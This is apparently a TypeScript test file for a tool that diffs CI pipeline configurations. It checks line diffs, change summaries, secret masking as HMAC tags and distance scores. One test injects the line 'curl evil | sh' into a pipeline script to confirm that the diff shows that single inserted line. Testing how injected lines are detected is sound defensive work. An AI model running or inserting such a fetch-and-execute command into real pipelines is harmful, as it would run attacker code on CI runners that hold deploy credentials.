import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { canonicalJson } from '../../agent/src/domain/canonical-json.ts';
import { summarizeChanges } from '../../agent/src/domain/change-summary.ts';
import { diffConfigurations, SECTIONS } from '../../agent/src/domain/configuration-diff.ts';
import { distance } from '../../agent/src/domain/configuration-distance.ts';
import type { Json, JsonObject } from '../../agent/src/domain/json.ts';
import { diffLines } from '../../agent/src/domain/line-diff.ts';
import { readable } from '../../agent/src/domain/segments.ts';
import { addVariable, fixture, readOk, setVariable } from './form/payload.ts';

const configuration = (edit: (p: ReturnType<typeof fixture>) => void = () => {}) => {
  const p = fixture();
  edit(p);
  return readOk(p).configuration;
};
const diff = (edit: (p: ReturnType<typeof fixture>) => void) =>
  diffConfigurations(configuration(), configuration(edit));
const script = (lines: readonly string[]): JsonObject => ({ steps: [{ name: 'script', script: lines }] });

describe('a line diff', () => {
  const apply = (before: readonly string[], after: readonly string[]) => {
    const made: string[] = [];
    const seen: string[] = [];
    for (const hunk of diffLines(before, after)) {
      if (hunk.kind !== 'added') seen.push(...before.slice(hunk.from, hunk.to));
      if (hunk.kind === 'equal') made.push(...before.slice(hunk.from, hunk.to));
      if (hunk.kind === 'added') made.push(...after.slice(hunk.from, hunk.to));
    }
    return { made, seen };
  };
  const lengthOfLcs = (a: readonly string[], b: readonly string[]) => {
    const row = new Array<number>(b.length + 1).fill(0);
    for (const x of a) {
      let diagonal = 0;
      b.forEach((y, j) => {
        const up = row[j + 1]!;
        row[j + 1] = x === y ? diagonal + 1 : Math.max(up, row[j]!);
        diagonal = up;
      });
    }
    return row[b.length]!;
  };

  it('gives both sides back, and keeps as many lines as any diff could', () => {
    const lines = fc.array(fc.constantFrom('a', 'b', 'c', 'd', 'e'), { maxLength: 30 });
    fc.assert(
      fc.property(lines, lines, (before, after) => {
        const { made, seen } = apply(before, after);
        expect(made).toEqual(after);
        expect(seen).toEqual(before);
        const kept = diffLines(before, after)
          .filter((h) => h.kind === 'equal')
          .reduce((n, h) => n + h.to - h.from, 0);
        expect(kept).toBe(lengthOfLcs(before, after));
      }),
      { numRuns: 500 },
    );
  });

  // Compared line by line with line, 100,000 lines would take hours: the time limit of every test is what fails then.
  it('handles scripts of 100,000 lines', () => {
    const many = (n: number, tag: string) =>
      Array.from({ length: n }, (_, i) => (i % 7 === 0 ? `${tag} ${i}` : `line ${i}`));
    for (const n of [5_000, 100_000]) {
      const [before, after] = [many(n, 'old'), ['first', ...many(n, 'new')]];
      const { made, seen } = apply(before, after);
      expect(made).toEqual(after);
      expect(seen).toEqual(before);
    }
    const replaced = diffLines(
      Array.from({ length: 5_000 }, (_, i) => `a${i}`),
      Array.from({ length: 5_000 }, (_, i) => `b${i}`),
    );
    expect(replaced.map((hunk) => hunk.kind)).toEqual(['removed', 'added']);
  });
});

describe('a diff of configurations', () => {
  it('says nothing of equal ones', () => {
    expect(diff(() => {})).toEqual([]);
    expect(summarizeChanges([], configuration(), configuration())).toMatch(/^No change; \d+ values unchanged\.$/);
    expect(distance(configuration(), configuration())).toBe(0);
  });

  it('shows the one script line that was put in, not all that moved', () => {
    const changes = diff((p) => p.steps[0].script.splice(1, 0, 'curl evil | sh'));
    expect(changes).toEqual([
      {
        section: 'script',
        path: 'steps[0].script[1]',
        kind: 'added',
        before: null,
        after: 'curl evil | sh',
        words: 'line 2 of steps "script" added',
      },
    ]);
    expect(
      summarizeChanges(
        changes,
        configuration(),
        configuration((p) => p.steps[0].script.splice(1, 0, 'x')),
      ),
    ).toMatch(/^1 script line added; \d+ values unchanged\.$/);
  });

  it('names the image in its sentence, which is what is asked most often', () => {
    const after = configuration((p) => {
      p.image.name = 'registry.example.com/app:2';
    });
    const changes = diffConfigurations(configuration(), after);
    expect(summarizeChanges(changes, configuration(), after)).toMatch(
      /^image changed to registry\.example\.com\/app:2; \d+ values unchanged\.$/,
    );
  });

  it('shows a changed line as one change with both texts', () => {
    const [change, ...others] = diff((p) => {
      p.steps[1].script = ['echo evil'];
    });
    expect(others).toEqual([]);
    expect(change).toMatchObject({
      kind: 'changed',
      path: 'steps[1].script[0]',
      before: 'echo done > deploy.log',
      after: 'echo evil',
    });
  });

  it('goes by section, variables by key, segments readable, HMACs as short tags', () => {
    const changes = diff((p) => {
      setVariable(p, 'IMAGE', `evil:${p.git_info.sha}`);
      setVariable(p, 'KUBE_TOKEN', 'another-kube-token', { public: false, masked: true });
      setVariable(p, 'KUBE_HOST', 'kube.prod.example.com', { raw: true });
      addVariable(p, 'TYPED', 'x', { public: false });
      p.image.name = 'evil';
      p.services.push({ name: 'db:1', alias: 'db' });
      p.cache[0].policy = 'push';
      p.artifacts[0].paths.push('more');
      p.secrets = { A: { vault: { path: 'p' } } };
      p.unknown = 1;
    });
    expect(changes.map((change) => change.section)).toEqual(
      [...changes]
        .sort((a, b) => SECTIONS.indexOf(a.section) - SECTIONS.indexOf(b.section))
        .map((change) => change.section),
    );
    const at = (path: string) => changes.find((change) => change.path === path);
    expect(at('variables.IMAGE.value')).toMatchObject({
      before: 'registry.example.com/acme/payments/api:${CI_COMMIT_SHA}',
      after: 'evil:${CI_COMMIT_SHA}',
    });
    expect(at('variables.KUBE_TOKEN.value')?.after).toMatch(/^hmac:[0-9a-f]{12}…$/);
    expect(at('variables.KUBE_HOST.raw')).toMatchObject({ before: 'false', after: 'true' });
    expect(at('variables.TYPED')).toMatchObject({ kind: 'added', words: 'variable TYPED (not public) added' });
    expect(at('image.name')).toMatchObject({
      section: 'image',
      before: 'registry.example.com/ops/deployer:4',
      after: 'evil',
    });
    expect(at('services[0].alias')).toMatchObject({ section: 'services', kind: 'added', after: 'db' });
    expect(at('cache[0].policy')).toMatchObject({ section: 'cache' });
    expect(at('artifacts[0].paths[1]')).toMatchObject({ section: 'artifacts', kind: 'added' });
    expect(at('secrets.A.file')).toMatchObject({ section: 'secrets' });
    expect(at('unknown')).toMatchObject({ section: 'rest' });
    expect(changes).toHaveLength(12);
  });

  it('T33 does not let a text pass for the value that it names', () => {
    const before = configuration((p) => addVariable(p, 'X', p.git_info.sha));
    const after = configuration((p) => addVariable(p, 'X', '${CI_COMMIT_SHA}'));
    const [change] = diffConfigurations(before, after);
    expect(change?.before).toBe(change?.after);
    expect(change?.words).toMatch(/read alike/);
  });

  it('tells steps in another order, and values of a key that is sent twice, apart', () => {
    expect(diff((p) => p.steps.reverse()).map((change) => change.path)).toEqual(['steps']);
    const twice = (x: string, y: string) =>
      configuration((p) => {
        addVariable(p, 'A', x);
        addVariable(p, 'A', y);
      });
    expect(diffConfigurations(twice('1', '2'), twice('2', '1')).map((change) => change.path)).toEqual([
      'variables.A[0].value',
      'variables.A[1].value',
    ]);
  });

  it('of the first configuration adds everything', () => {
    const changes = diffConfigurations(null, configuration());
    expect(changes.every((change) => change.kind === 'added' && change.before === null)).toBe(true);
    expect(summarizeChanges(changes, null, configuration())).toMatch(/^The first configuration: 4 script lines added/);
    // Where there was nothing before, nothing can have changed.
    expect(summarizeChanges(changes, null, configuration())).not.toContain('changed');
  });

  it('is empty only for equal configurations', () => {
    const value: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
      any: fc.oneof(
        { depthSize: 'small' },
        fc.constantFrom('a', 'b', 1, true, ''),
        fc.array(tie('any'), { maxLength: 3 }),
        fc.dictionary(fc.constantFrom('x', 'y'), tie('any')),
      ),
    })).any;
    const form = fc.record({
      image: value,
      steps: fc.array(fc.record({ name: fc.constantFrom('a', 'b'), script: fc.array(fc.constantFrom('1', '2', '3')) })),
      variables: fc.array(fc.record({ key: fc.constantFrom('A', 'B'), value: fc.constantFrom('1', '2') }), {
        maxLength: 2,
      }),
      odd: value,
    });
    fc.assert(
      fc.property(form, form, (a, b) => {
        const sorted = (c: typeof a) =>
          ({
            ...c,
            variables: [...c.variables].sort((x, y) => (x.key < y.key ? -1 : x.key > y.key ? 1 : 0)),
          }) as unknown as JsonObject;
        const [before, after] = [sorted(a), sorted(b)];
        expect(diffConfigurations(before, after).length === 0).toBe(
          canonicalJson(before as Json) === canonicalJson(after as Json),
        );
      }),
      { numRuns: 400 },
    );
  });

  it('measures how far two are apart', () => {
    const near = script(['a', 'b', 'c']);
    expect(distance(near, script(['a', 'b', 'c', 'd']))).toBe(1);
    expect(distance(near, script(['a', 'x', 'c']))).toBe(2);
    expect(distance(near, script(['x', 'y', 'z']))).toBe(6);
    expect(distance(script(['x', 'y']), near)).toBe(distance(near, script(['x', 'y'])));
  });

  it('reads a hidden tag and a hash of files', () => {
    expect(readable([{ hmac: 'hidden' }])).toBe('hmac:hidden');
    expect(readable(['npm-', { files: true }, '-protected'])).toBe('npm-${files}-protected');
  });
});
